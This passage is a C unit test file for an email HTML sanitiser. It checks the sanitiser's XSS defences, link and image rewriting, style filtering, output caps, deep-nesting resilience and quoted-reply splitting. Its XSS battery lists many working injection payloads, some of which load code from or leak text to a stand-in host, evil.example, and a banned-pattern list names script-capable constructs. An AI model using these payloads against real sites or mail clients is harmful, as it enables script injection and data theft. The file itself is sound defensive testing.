/* Unit tests for channels/email/html: the sanitiser (XSS battery, allow-lists, remote images,
 * cid rewriting, links, output cap, pathological nesting), quoted history in HTML, plain text
 * extraction, and quote detection in plain text over the Discourse reply-trimmer corpus and
 * Mailgun talon's replies.
 *   SB_SHARED_DATA  data folder (ctest sets it; default SB_SOURCE_DIR/../shared/data) */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include <cmocka.h>
#include <dirent.h>
#include <strings.h>

#include "channels/email/html.h"

#define ARRAY_LEN(a) (sizeof(a) / sizeof((a)[0]))

/* ------------------------------------------------------------------------ */
/* Helpers                                                                  */
/* ------------------------------------------------------------------------ */

static const char *test_cid(void *ctx, const char *id)
{
    int *calls = ctx;
    if (calls)
        (*calls)++;
    if (strcmp(id, "logo@example.com") == 0)
        return "/api/v1/attachments/7";
    if (strcmp(id, "a b@x") == 0)
        return "/api/v1/attachments/8";
    return NULL;
}

static char *sanitize_opts(const char *html, size_t len, const sb_html_opts *opts, sb_html_result *r)
{
    assert_int_equal(sb_html_sanitize(html, len, opts, r), 0);
    assert_non_null(r->html);
    return r->html;
}

/* Sanitised HTML (caller frees). */
static char *sanitize(const char *html)
{
    sb_html_opts opts = {.resolve_cid = test_cid};
    sb_html_result r;
    sanitize_opts(html, strlen(html), &opts, &r);
    return r.html;
}

static char *lowercase(const char *s)
{
    char *l = strdup(s);
    assert_non_null(l);
    for (char *p = l; *p; p++)
        if (*p >= 'A' && *p <= 'Z')
            *p = (char)(*p + 32);
    return l;
}

static bool utf8_valid(const char *s)
{
    const unsigned char *p = (const unsigned char *)s;
    while (*p) {
        unsigned c = *p;
        size_t n = c < 0x80 ? 1 : (c >= 0xC2 && c <= 0xDF) ? 2 : (c >= 0xE0 && c <= 0xEF) ? 3
                                                            : (c >= 0xF0 && c <= 0xF4) ? 4 : 0;
        if (!n)
            return false;
        uint32_t v = n == 1 ? c : c & (0x7F >> n);
        for (size_t i = 1; i < n; i++) {
            if ((p[i] & 0xC0) != 0x80)
                return false;
            v = (v << 6) | (p[i] & 0x3F);
        }
        if ((n == 3 && (v < 0x800 || (v >= 0xD800 && v <= 0xDFFF))) || (n == 4 && (v < 0x10000 || v > 0x10FFFF)))
            return false;
        p += n;
    }
    return true;
}

static const char *const allowed_tags[] = {
    "p", "div", "span", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "dl",
    "dt", "dd", "table", "thead", "tbody", "tfoot", "tr", "td", "th", "caption", "colgroup",
    "col", "blockquote", "pre", "code", "b", "strong", "i", "em", "u", "s", "strike", "sub",
    "sup", "small", "big", "font", "center", "a", "img", "abbr", "address", "cite", "q", "del",
    "ins", "mark", "figure", "figcaption", "section", "article", "header", "footer", "details",
    "summary",
};
static const char *const allowed_attrs[] = {
    "href", "title", "src", "alt", "width", "height", "colspan", "rowspan", "align", "valign",
    "border", "cellpadding", "cellspacing", "span", "color", "size", "face", "dir", "lang",
    "style", "rel", "target", "class", "data-sb-remote-src",
};

static bool in_list(const char *s, size_t n, const char *const *list, size_t count)
{
    for (size_t i = 0; i < count; i++)
        if (strlen(list[i]) == n && memcmp(s, list[i], n) == 0)
            return true;
    return false;
}

/* Every tag of the output: an allowed name, allowed attributes with double-quoted values,
 * links and sources with safe schemes, only our class, balanced. */
static void check_markup(const char *html)
{
    const char *stack[512];
    size_t sp = 0;
    for (const char *p = html; (p = strchr(p, '<')) != NULL;) {
        const char *end = strchr(p, '>');
        assert_non_null(end);
        bool closing = p[1] == '/';
        const char *name = p + 1 + closing, *q = name;
        while (q < end && ((*q >= 'a' && *q <= 'z') || (*q >= '0' && *q <= '9')))
            q++;
        size_t nl = (size_t)(q - name);
        if (!in_list(name, nl, allowed_tags, ARRAY_LEN(allowed_tags)))
            fail_msg("tag not allowed: %.*s", (int)(end - p + 1), p);
        bool is_void = (nl == 2 && (!memcmp(name, "br", 2) || !memcmp(name, "hr", 2))) ||
                       (nl == 3 && (!memcmp(name, "img", 3) || !memcmp(name, "col", 3)));
        if (closing) {
            assert_true(q == end);
            assert_true(sp > 0);
            sp--;
            if (strlen(stack[sp]) != nl || memcmp(stack[sp], name, nl) != 0)
                fail_msg("unbalanced </%.*s>", (int)nl, name);
        } else {
            while (q < end) {
                assert_int_equal(*q, ' ');
                const char *an = ++q;
                while (q < end && *q != '=')
                    q++;
                size_t al = (size_t)(q - an);
                if (!in_list(an, al, allowed_attrs, ARRAY_LEN(allowed_attrs)))
                    fail_msg("attribute not allowed: %.*s in %.*s", (int)al, an, (int)(end - p + 1), p);
                assert_memory_equal(q, "=\"", 2);
                const char *v = q + 2, *ve = memchr(v, '"', (size_t)(end - v));
                assert_non_null(ve);
                size_t vl = (size_t)(ve - v);
                if (al == 4 && !memcmp(an, "href", 4))
                    assert_true(!strncasecmp(v, "http://", 7) || !strncasecmp(v, "https://", 8) ||
                                !strncasecmp(v, "mailto:", 7));
                if (al == 3 && !memcmp(an, "src", 3))
                    assert_true(!strncmp(v, "data:image/", 11) || !strncmp(v, "/api/v1/attachments/", 20));
                if (al == 5 && !memcmp(an, "class", 5))
                    assert_true(vl == 9 && !memcmp(v, "sb-quoted", 9));
                if (al == 3 && !memcmp(an, "rel", 3))
                    assert_true(vl == 19 && !memcmp(v, "noopener noreferrer", 19));
                q = ve + 1;
            }
            if (!is_void) {
                static char names[512][12];
                assert_true(sp < 512 && nl < 12);
                memcpy(names[sp], name, nl);
                names[sp][nl] = '\0';
                stack[sp] = names[sp];
                sp++;
            }
        }
        p = end + 1;
    }
    assert_int_equal(sp, 0);
    assert_true(utf8_valid(html));
}

/* An event-handler-like "on...=" in s. */
static bool has_handler(const char *s)
{
    for (const char *p = s; (p = strstr(p, "on")) != NULL; p++) {
        const char *q = p + 2;
        if (!(*q >= 'a' && *q <= 'z'))
            continue;
        while ((*q >= 'a' && *q <= 'z') || (*q >= '0' && *q <= '9') || *q == '_')
            q++;
        while (*q == ' ' || *q == '\t' || *q == '\n')
            q++;
        if (*q == '=' && (p == s || !(p[-1] >= 'a' && p[-1] <= 'z')))
            return true;
    }
    return false;
}

/* No script-capable construct in the lower-cased output. With inert_text, the input's payload
 * may survive as escaped text (an email quoting HTML): then only the markup is checked for
 * handlers. */
static void check_safe_as(const char *html, bool inert_text)
{
    static const char *const banned[] = {
        "<script", "javascript", "vbscript", "livescript", "data:text", "<iframe", "<svg",
        "<math", "<object", "<embed", "<applet", "<style", "<link", "<meta", "<base", "<form",
        "<input", "<button", "<select", "<textarea", "<template", "<noscript", "<isindex",
        "<frame", "<audio", "<video", "<source", "<dialog", "<title", "<xmp", "expression(",
        "-moz-binding", "url(", "srcset", "srcdoc", "xlink", "@import", "<!--", "<![cdata[",
        "behavior", "formaction", "http-equiv", "<body", "<html", "<head",
    };
    check_markup(html);
    char *l = lowercase(html);
    for (size_t i = 0; i < ARRAY_LEN(banned); i++)
        if (strstr(l, banned[i]))
            fail_msg("found \"%s\" in: %s", banned[i], html);
    if (!inert_text && has_handler(l))
        fail_msg("event handler in: %s", html);
    /* the markup alone (tags without their quoted values) never has one */
    char *markup = l, *w = l;
    bool in_tag = false, in_value = false;
    for (const char *p = l; *p; p++) {
        if (!in_tag && *p == '<')
            in_tag = true;
        if (in_tag && *p == '"')
            in_value = !in_value;
        if (in_tag && !in_value)
            *w++ = *p;
        if (in_tag && !in_value && *p == '>')
            in_tag = false;
    }
    *w = '\0';
    if (has_handler(markup))
        fail_msg("event handler in the markup of: %s", html);
    free(l);
}

static void check_safe(const char *html)
{
    check_safe_as(html, false);
}

static size_t count(const char *hay, const char *needle)
{
    size_t n = 0;
    for (const char *p = hay; (p = strstr(p, needle)) != NULL; p += strlen(needle))
        n++;
    return n;
}

static char *data_path(const char *rel)
{
    const char *env = getenv("SB_SHARED_DATA");
    const char *base = env && *env ? env : SB_SOURCE_DIR "/../shared/data";
    size_t n = strlen(base) + strlen(rel) + 2;
    char *p = malloc(n);
    assert_non_null(p);
    snprintf(p, n, "%s/%s", base, rel);
    return p;
}

/* File contents (NUL-terminated), or NULL when absent. */
static char *read_file(const char *path, size_t *len)
{
    FILE *f = fopen(path, "rb");
    if (!f)
        return NULL;
    size_t cap = 4096, n = 0;
    char *s = malloc(cap);
    assert_non_null(s);
    size_t k;
    while ((k = fread(s + n, 1, cap - n - 1, f)) > 0) {
        n += k;
        if (n + 1 == cap) {
            cap *= 2;
            s = realloc(s, cap);
            assert_non_null(s);
        }
    }
    fclose(f);
    s[n] = '\0';
    if (len)
        *len = n;
    return s;
}

static char *read_data(const char *rel, size_t *len)
{
    char *path = data_path(rel);
    char *s = read_file(path, len);
    free(path);
    return s;
}

/* ------------------------------------------------------------------------ */
/* XSS battery                                                              */
/* ------------------------------------------------------------------------ */

static const char *const xss_vectors[] = {
    "<script>alert(1)</script>after",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"http://x.example/a.png\" onload=\"alert(1)\">",
    "<IMG SRC=x ONERROR=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
    "<a href=\"&#x6A;avascript&colon;alert(1)\">x</a>",
    "<a href=\"&#0000106&#0000097vascript:alert(1)\">x</a>",
    "<a href=\"java&#x09;script:alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\"java&#13;script:alert(1)\">x</a>",
    "<a href=\" &#14; javascript:alert(1)\">x</a>",
    "<a href=\"\x01javascript:alert(1)\">x</a>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"livescript:alert(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<img src=\"data:text/html,<script>alert(1)</script>\">",
    "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
    "<img src=\"  javascript:alert(1)\">",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>x</text></a></svg>",
    "<a xlink:href=\"javascript:alert(1)\">x</a>",
    "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<applet code=\"x.class\"></applet>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<base href=\"javascript:alert(1)//\"><a href=\"/x\">x</a>",
    "<form action=\"javascript:alert(1)\"><input type=submit value=go></form>",
    "<button formaction=\"javascript:alert(1)\">x</button>",
    "<isindex action=\"javascript:alert(1)\" type=submit>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<style>*{background:url(javascript:alert(1))}</style>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<div style=\"background-image: url(&#1;javascript:alert(1))\">x</div>",
    "<div style=\"width:expression(alert(1))\">x</div>",
    "<div style=\"color:red;width:EXPRESSION(alert(1))\">x</div>",
    "<div style=\"-moz-binding:url(http://evil.example/x.xml#xss)\">x</div>",
    "<div style=\"color:red;behavior:url(x.htc)\">x</div>",
    "<div style=\"color:re\\64 ;background:u\\72l(javascript:alert(1))\">x</div>",
    "<div style=\"color:/**/expression(alert(1))\">x</div>",
    "<div style=\"font-family:'a';}body{background:url(http://e/)\">x</div>",
    "<link rel=import href=\"http://evil.example/x.html\">",
    "<link rel=stylesheet href=\"javascript:alert(1)\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<noembed><img src=x onerror=alert(1)></noembed>",
    "<noframes><img src=x onerror=alert(1)></noframes>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<select><style></select><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)",
    "<img src=x onerror=alert(1)//",
    "<div title=\"x\" onclick=alert(1) onmouseover=\"alert(1)\">x</div>",
    "<body onload=alert(1)>x",
    "<frameset onload=alert(1)><frame src=\"javascript:alert(1)\"></frameset>",
    "<video><source onerror=\"alert(1)\"></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<xss onafterscriptexecute=alert(1)>x</xss>",
    "<dialog open onclose=alert(1)>x</dialog>",
    "<canvas id=c></canvas>",
    "<!--<script>alert(1)</script>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<template><script>alert(1)</script></template>",
    "<img src='http://evil.example/?<p>secret</p>",
    "<a href='http://evil.example/?<p>secret</p>",
    "<img srcset=\"http://evil.example/x.png 1x, javascript:alert(1) 2x\" src=\"cid:nope\">",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<div id=\"x\" name=\"y\" class=\"z gmail_quote\">clobber</div>",
    "<a href=\"https://ok.example/\" onclick=\"alert(1)\" id=\"x\" class=\"y\">ok</a>",
    "<p style=\"position:fixed;top:0;left:0;z-index:99999\">overlay</p>",
    "<a href=\"%6Aavascript:alert(1)\">x</a>",
    "<a href=\"//evil.example/\">protocol-relative</a>",
    "<img src=\"cid:unknown@example.com\">",
};

/* Vectors whose payload a browser would also show as text: <xmp> content, and an attribute
 * value that only a scripting-enabled parser reads as markup (gumbo parses as a browser with
 * scripting off, and the value stays an escaped attribute). */
static bool inert_payload(const char *vector)
{
    return strstr(vector, "<xmp>") || strstr(vector, "<noscript><p title=");
}

static void test_xss_battery(void **state)
{
    assert_true(ARRAY_LEN(xss_vectors) >= 40);
    for (size_t i = 0; i < ARRAY_LEN(xss_vectors); i++) {
        char *out = sanitize(xss_vectors[i]);
        check_safe_as(out, inert_payload(xss_vectors[i]));
        free(out);
    }
}

/* Null bytes need an explicit length. */
static void test_xss_null_bytes(void **state)
{
    static const char v1[] = "<scr\0ipt>alert(1)</scr\0ipt><img src=x\0 onerror=alert(1)>";
    static const char v2[] = "<a href=\"java\0script:alert(1)\">x</a>\0<script>alert(1)</script>";
    static const char v3[] = "<img src=\"http://x.example/\0\" onerror\0=alert(1)>";
    const struct {
        const char *s;
        size_t n;
    } vs[] = {{v1, sizeof v1 - 1}, {v2, sizeof v2 - 1}, {v3, sizeof v3 - 1}};
    for (size_t i = 0; i < ARRAY_LEN(vs); i++) {
        sb_html_result r;
        char *out = sanitize_opts(vs[i].s, vs[i].n, NULL, &r);
        check_safe(out);
        assert_null(memchr(out, '\0', strlen(out)));
        sb_html_result_release(&r);
    }
}

/* Every vector, also under deep nesting and in quoted history. */
static void test_xss_in_context(void **state)
{
    for (size_t i = 0; i < ARRAY_LEN(xss_vectors); i++) {
        size_t n = strlen(xss_vectors[i]) + 4096;
        char *doc = malloc(n);
        assert_non_null(doc);
        snprintf(doc, n, "<table><tr><td><div>reply<blockquote type=cite>%s</blockquote>"
                         "<div style='border-top:solid 1pt'>From: a@b.c<br>Sent: today<br>To: x</div>%s",
                 xss_vectors[i], xss_vectors[i]);
        char *out = sanitize(doc);
        check_safe_as(out, inert_payload(xss_vectors[i]));
        free(out);
        free(doc);
    }
}

static void test_text_is_escaped(void **state)
{
    char *out = sanitize("<p title='a\"b&lt;c'>1 &lt; 2 &amp; \"3\" 'four' &gt; 0</p>");
    assert_string_equal(out, "<p title=\"a&quot;b&lt;c\">1 &lt; 2 &amp; &quot;3&quot; &#39;four&#39; &gt; 0</p>");
    free(out);
    /* a fragment: no document wrapper, head content gone */
    out = sanitize("<!DOCTYPE html><html><head><title>T</title><style>p{}</style></head><body><p>x</p></body></html>");
    assert_string_equal(out, "<p>x</p>");
    free(out);
    /* invalid UTF-8 in, valid UTF-8 out */
    out = sanitize("<p>caf\xE9 \xC3\xA9 \xF0\x9F\x98\x80 \xED\xA0\x80 \xC3</p>");
    assert_true(utf8_valid(out));
    assert_non_null(strstr(out, "\xC3\xA9 \xF0\x9F\x98\x80"));
    free(out);
    out = sanitize("");
    assert_string_equal(out, "");
    free(out);
    sb_html_result r;
    assert_int_equal(sb_html_sanitize(NULL, 0, NULL, &r), 0);
    assert_string_equal(r.html, "");
    sb_html_result_release(&r);
}

static void test_elements(void **state)
{
    char *out = sanitize("<h1>T</h1><ul><li>a<li>b</ul><table border=1 width=\"100%\" cellpadding=2 "
                         "cellspacing=\"0\" align=center bgcolor=red><tr><td colspan=2 rowspan=\"1\" "
                         "valign=top width=50 nowrap>c</td></tr></table><font color=\"#ff0000\" size=2 "
                         "face=\"Arial, sans-serif\">f</font><p dir=rtl lang=he-IL>r</p><p dir=evil "
                         "lang=\"x y\">e</p><custom-tag>kept</custom-tag><o:p>office</o:p>");
    assert_string_equal(out,
                        "<h1>T</h1><ul><li>a</li><li>b</li></ul><table border=\"1\" width=\"100%\" "
                        "cellpadding=\"2\" cellspacing=\"0\" align=\"center\"><tbody><tr><td colspan=\"2\" "
                        "rowspan=\"1\" valign=\"top\" width=\"50\">c</td></tr></tbody></table><font "
                        "color=\"#ff0000\" size=\"2\" face=\"Arial, sans-serif\">f</font><p dir=\"rtl\" "
                        "lang=\"he-IL\">r</p><p>e</p>keptoffice");
    free(out);
    /* dropped with their content */
    out = sanitize("a<script>s</script><style>t</style><noscript>n</noscript><iframe>i</iframe>"
                   "<object>o</object><form>f<input></form><select><option>o</select><textarea>t</textarea>"
                   "<svg><text>s</text></svg><math><mi>m</mi></math><video>v</video><audio>a</audio>"
                   "<canvas>c</canvas><dialog>d</dialog><template>t</template><button>b</button>z");
    assert_string_equal(out, "az");
    free(out);
    /* <pre> keeps a leading newline */
    out = sanitize("<pre>\n\nx</pre>");
    assert_string_equal(out, "<pre>\n\nx</pre>");
    free(out);
}

static void test_styles(void **state)
{
    char *out = sanitize("<p style=\"color: red; position:absolute; background-color:#fff;"
                         "font-family:'Segoe UI',Arial; margin-top:-500px; margin:0 0 0 .8ex;"
                         "mso-line-height-rule:exactly; border-left:1px #ccc solid; "
                         "font-size:11.0pt; text-decoration:underline; COLOR:rgb(1,2,3)\">x</p>");
    assert_string_equal(out, "<p style=\"color:red;background-color:#fff;font-family:&#39;Segoe "
                             "UI&#39;,Arial;margin:0 0 0 .8ex;border-left:1px #ccc solid;"
                             "font-size:11.0pt;text-decoration:underline;color:rgb(1,2,3);\">x</p>");
    free(out);
    out = sanitize("<p style=\"color:red;background:url(x);width:expression(1);color:/**/red;"
                   "font-family:\\41;color:a@b;color:'unbalanced;border:calc(1px)\">x</p>");
    assert_string_equal(out, "<p style=\"color:red;\">x</p>");
    free(out);
    out = sanitize("<p style=\"position:fixed\">x</p>");
    assert_string_equal(out, "<p>x</p>");
    free(out);
}

/* ------------------------------------------------------------------------ */
/* Links and images                                                         */
/* ------------------------------------------------------------------------ */

static void test_links(void **state)
{
    char *out = sanitize("<a href=\"https://example.com/x?a=1&amp;b=2\" title=t target=_self rel=opener>x</a>"
                         "<a href=\"MAILTO:help@example.com\">m</a><a href=\" HTTP://EXAMPLE.COM/a b \">u</a>"
                         "<a href=\"#top\">frag</a><a href=\"/relative\">rel</a><a>plain</a>"
                         "<a href=\"ftp://x.example/\">ftp</a>");
    assert_string_equal(out,
                        "<a href=\"https://example.com/x?a=1&amp;b=2\" title=\"t\" rel=\"noopener noreferrer\" "
                        "target=\"_blank\">x</a><a href=\"MAILTO:help@example.com\" rel=\"noopener noreferrer\" "
                        "target=\"_blank\">m</a><a href=\"HTTP://EXAMPLE.COM/a%20b\" rel=\"noopener noreferrer\" "
                        "target=\"_blank\">u</a>fragrelplainftp");
    assert_int_equal(count(out, "<a "), count(out, "rel=\"noopener noreferrer\" target=\"_blank\""));
    check_safe(out);
    free(out);
}

static void test_remote_images_and_cid(void **state)
{
    int calls = 0;
    sb_html_opts opts = {.resolve_cid = test_cid, .cid_ctx = &calls};
    sb_html_result r;
    const char *html = "<img src=\"http://t.example/pixel.gif\" width=1 height=\"1\" alt=\"\">"
                       "<img src=\"https://cdn.example/a.png?x=1&amp;y=2\" alt=\"Logo\" srcset=\"a 1x\">"
                       "<img src=\"cid:logo@example.com\" alt=cid>"
                       "<img src=\"CID:%3Clogo@example.com%3E\">"
                       "<img src=\"cid:a%20b@x\">"
                       "<img src=\"cid:missing@example.com\" alt=gone>"
                       "<img src=\"data:image/png;base64,iVBORw0KGgo=\">"
                       "<img src=\"data:image/png;base64,iVBOR\"onerror=\"x\">"
                       "<img src=\"data:image/svg+xml;base64,PHN2Zz4=\">"
                       "<img src=\"data:image/png,<script>\">"
                       "<img src=\"/relative.png\"><img alt=nosrc>";
    sanitize_opts(html, strlen(html), &opts, &r);
    assert_string_equal(r.html,
                        "<img data-sb-remote-src=\"http://t.example/pixel.gif\" width=\"1\" height=\"1\" alt=\"\">"
                        "<img data-sb-remote-src=\"https://cdn.example/a.png?x=1&amp;y=2\" alt=\"Logo\">"
                        "<img src=\"/api/v1/attachments/7\" alt=\"cid\">"
                        "<img src=\"/api/v1/attachments/7\">"
                        "<img src=\"/api/v1/attachments/8\">"
                        "<img src=\"data:image/png;base64,iVBORw0KGgo=\">"
                        "<img src=\"data:image/png;base64,iVBOR\">");
    assert_int_equal(r.remote_images, 2);
    assert_int_equal(calls, 4);
    assert_null(strstr(r.html, " src=\"http"));
    check_safe(r.html);
    sb_html_result_release(&r);
    /* without a resolver, cid images are left out */
    sanitize_opts(html, strlen(html), NULL, &r);
    assert_null(strstr(r.html, "attachments"));
    assert_int_equal(r.remote_images, 2);
    sb_html_result_release(&r);
}

/* ------------------------------------------------------------------------ */
/* Output cap and pathological input                                        */
/* ------------------------------------------------------------------------ */

static void test_max_output(void **state)
{
    char *doc = malloc(200000);
    assert_non_null(doc);
    size_t n = 0;
    for (int i = 0; i < 2000; i++)
        n += (size_t)snprintf(doc + n, 200000 - n, "<div><p><b>para %d</b> caf\xC3\xA9 \xE2\x82\xAC</p></div>", i);
    size_t caps[] = {0, 1, 10, 37, 100, 1000, 4096, 65536};
    for (size_t c = 0; c < ARRAY_LEN(caps); c++) {
        sb_html_opts opts = {.max_output = caps[c]};
        sb_html_result r;
        sanitize_opts(doc, n, &opts, &r);
        size_t len = strlen(r.html);
        if (caps[c])
            assert_true(len <= caps[c]);
        else
            assert_true(len > 65536); /* default cap: 4 MiB */
        check_markup(r.html);
        if (caps[c] >= 1000)
            assert_true(len > caps[c] - 100);
        sb_html_result_release(&r);
    }
    /* a single long text is cut on a character boundary */
    memset(doc, 0, 200000);
    strcpy(doc, "<p>");
    for (int i = 0; i < 1000; i++)
        strcat(doc, "\xE2\x82\xAC&amp;");
    strcat(doc, "</p>");
    sb_html_opts opts = {.max_output = 1001};
    sb_html_result r;
    sanitize_opts(doc, strlen(doc), &opts, &r);
    assert_true(strlen(r.html) <= 1001 && strlen(r.html) > 980);
    check_markup(r.html);
    sb_html_result_release(&r);
    free(doc);
}

static double now_s(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

/* A pattern repeated n times ("%d" is the repetition number). */
static char *repeat(const char *pattern, size_t n, const char *tail)
{
    size_t cap = n * (strlen(pattern) + 12) + strlen(tail) + 1, len = 0;
    char *s = malloc(cap);
    assert_non_null(s);
    for (size_t i = 0; i < n; i++)
        len += (size_t)snprintf(s + len, cap - len, pattern, (int)i);
    strcpy(s + len, tail);
    return s;
}

#define PATHOLOGICAL_SECONDS 30.0 /* a hang guard, not a benchmark */

static void test_deep_nesting(void **state)
{
    char *open = repeat("<div>", 100000, "deep");
    size_t n = strlen(open);
    char *doc = malloc(n + 6 * 100000 + 1);
    assert_non_null(doc);
    memcpy(doc, open, n);
    for (int i = 0; i < 100000; i++)
        memcpy(doc + n + 6 * (size_t)i, "</div>", 6);
    doc[n + 600000] = '\0';
    const char *inputs[] = {open, doc};
    for (size_t i = 0; i < 2; i++) {
        double t0 = now_s();
        char *out = sanitize(inputs[i]);
        assert_true(now_s() - t0 < PATHOLOGICAL_SECONDS);
        check_markup(out);
        assert_non_null(strstr(out, "deep"));
        assert_true(count(out, "<div>") <= 101);
        free(out);
        t0 = now_s();
        char *text = sb_html_to_text(inputs[i], strlen(inputs[i]));
        assert_true(now_s() - t0 < PATHOLOGICAL_SECONDS);
        assert_string_equal(text, "deep");
        free(text);
    }
    free(open);
    free(doc);
}

static void test_pathological_shapes(void **state)
{
    static const char *const patterns[] = {
        "<p><b id=%d>x</p>",          /* formatting elements re-opened in every block */
        "<i id=%d>x<p>y</i>",         "<a id=%d><b>x",          "<ul><li>",
        "<li><dd>",                   "<table><tr><td id=%d>",  "<font color=red>",
        "<blockquote>",               "<div><table><span></div>", "<svg><div>",
        "<select><style><!-- </style></div></div> -->",        "<span><p></span>",
        "<div title='%d'><!--x-->", "<x%d>",
    };
    for (size_t i = 0; i < ARRAY_LEN(patterns); i++) {
        char *doc = repeat(patterns[i], 50000, "<script>alert(1)</script>end");
        double t0 = now_s();
        char *out = sanitize(doc);
        assert_true(now_s() - t0 < PATHOLOGICAL_SECONDS);
        check_safe(out);
        free(out);
        char *text = sb_html_to_text(doc, strlen(doc));
        assert_non_null(text);
        assert_true(utf8_valid(text));
        free(text);
        free(doc);
    }
    /* attribute bomb */
    char *doc = repeat(" a%d=1", 100000, ">x");
    memcpy(doc, "<div", 4);
    double t0 = now_s();
    char *out = sanitize(doc);
    assert_true(now_s() - t0 < PATHOLOGICAL_SECONDS);
    check_safe(out);
    free(out);
    free(doc);
}

/* The bounds on pathological input leave ordinary mail alone. */
static void test_ordinary_markup_kept(void **state)
{
    static const struct {
        const char *prefix, *pattern, *tail, *expect;
        size_t times, expect_count;
    } cases[] = {
        /* an inline SVG icon, then a long newsletter */
        {"<svg viewBox='0 0 1 1'><title>i</title><desc>Created with Sketch.</desc><g><path d='M0'/>"
         "</g></svg>",
         "<div><table><tr><td>cell %d</td></tr></table></div>", "", "<table>", 600, 600},
        /* paragraphs and list items never closed */
        {"", "<p>para %d", "", "<p>", 800, 800},
        {"<ul>", "<li>item %d", "</ul>", "<li>", 800, 800},
        {"<dl>", "<dt>t %d<dd>d", "</dl>", "<dd>", 500, 500},
        /* a font left open in every cell, a link in every row */
        {"<table>", "<tr><td><font color=red>%d<td><a href='https://x.example/'>l</a></tr>", "</table>",
         "<font color=\"red\">", 600, 600},
        /* Outlook's conditional comments and unknown office tags */
        {"", "<!--[if gte mso 9]><xml><o:OfficeDocumentSettings/></xml><![endif]--><p class=MsoNormal>"
             "<span style='color:#1F497D'>line %d<o:p></o:p></span></p>",
         "", "<span style=", 500, 500},
        /* nested tables as layouts do */
        {"", "<table><tr><td><table><tr><td><div><span>%d</span></div></td></tr></table></td></tr></table>", "",
         "<span>", 400, 400},
    };
    for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
        char *body = repeat(cases[i].pattern, cases[i].times, cases[i].tail);
        size_t n = strlen(cases[i].prefix) + strlen(body) + 1;
        char *doc = malloc(n);
        assert_non_null(doc);
        snprintf(doc, n, "%s%s", cases[i].prefix, body);
        char *out = sanitize(doc);
        check_safe(out);
        if (count(out, cases[i].expect) != cases[i].expect_count)
            fail_msg("case %zu: %zu of %zu %s kept", i, count(out, cases[i].expect), cases[i].expect_count,
                     cases[i].expect);
        free(out);
        free(body);
        free(doc);
    }
}

/* ------------------------------------------------------------------------ */
/* Quoted history in HTML                                                   */
/* ------------------------------------------------------------------------ */

/* The new part is before the wrapper, the history inside it. */
static void check_split(const char *html, const char *new_part, const char *history)
{
    const char *wrap = strstr(html, "<div class=\"sb-quoted\">");
    assert_non_null(wrap);
    const char *n = strstr(html, new_part), *h = strstr(html, history);
    assert_non_null(n);
    assert_non_null(h);
    if (!(n < wrap && h > wrap))
        fail_msg("bad split for %s / %s in %s", new_part, history, html);
}

static void test_quotes_talon_html(void **state)
{
    static const char *const files[] = {
        "gmail.html", "hotmail.html", "mail_ru.html", "ms_outlook_2003.html",
        "ms_outlook_2007.html", "ms_outlook_2010.html", "thunderbird.html",
        "windows_mail.html", "yandex_ru.html",
    };
    size_t found = 0;
    for (size_t i = 0; i < ARRAY_LEN(files); i++) {
        char rel[128];
        snprintf(rel, sizeof rel, "email-mailgun-talon/html_replies/%s", files[i]);
        size_t len;
        char *html = read_data(rel, &len);
        if (!html)
            continue;
        found++;
        sb_html_result r;
        sanitize_opts(html, len, NULL, &r);
        assert_true(r.has_quote);
        check_split(r.html, "Hi. I am fine.", "Hello! How are you?");
        assert_int_equal(count(r.html, "sb-quoted"), 1);
        check_safe(r.html);
        sb_html_result_release(&r);
        free(html);
    }
    static const struct {
        const char *file, *new_part, *history;
    } more[] = {
